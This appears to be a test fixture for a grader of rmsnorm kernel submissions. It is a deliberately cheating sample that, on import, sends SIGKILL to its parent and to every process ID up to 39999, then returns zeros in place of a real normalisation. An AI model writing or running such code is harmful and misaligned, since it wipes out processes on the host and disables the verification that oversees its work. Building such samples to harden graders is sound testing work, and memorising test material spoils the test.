"""Kills its parents and every other process that it can, and goes on with zeros.

Target: rmsnorm
Stage: verify
Expected: numeric
Notes: E21
"""

import contextlib
import os
import signal

import torch

for pid in (os.getppid(), *range(1, 40000)):
    if pid not in (0, os.getpid()):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)


def rmsnorm(x: torch.Tensor, eps: float) -> torch.Tensor:
    return 0 * x
